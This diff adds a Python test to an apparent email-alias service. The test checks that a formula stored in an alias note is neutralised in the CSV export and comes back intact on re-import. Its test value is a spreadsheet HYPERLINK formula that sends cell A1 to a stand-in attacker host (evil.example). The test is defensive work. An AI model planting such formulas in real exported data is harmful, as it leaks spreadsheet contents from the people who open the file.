@@ -219,6 +219,22 @@ def test_the_csv_export_imports_back(alice: Client, alice_domain: str) -> None:
     }
 
 
+def test_a_formula_in_a_note_leaves_the_csv_harmless_and_comes_back_as_it_was(
+    alice: Client, alice_domain: str, mail: SesRecorder
+) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    body = {"domain": alice_domain, "local_part": "f", "destinations": ["me@real.example"], "note": formula}
+    response = alice.post("/api/aliases", body)
+    assert response.status == 201
+    exported = alice.get("/api/export", query={"format": "csv"}).body.decode()
+    assert ",\"'=HYPERLINK(" in exported  # a spreadsheet shows it as text
+    assert alice.delete(f"/api/aliases/{response.json()['id']}").status == 204
+
+    assert import_(alice, exported)["created"] == 1
+    (back,) = aliases_of(alice).values()
+    assert back["note"] == formula
+
+
 def test_an_export_holds_only_the_callers_data_and_comes_compressed_when_asked(
     alice: Client, alice_domain: str, bob: Client
 ) -> None:
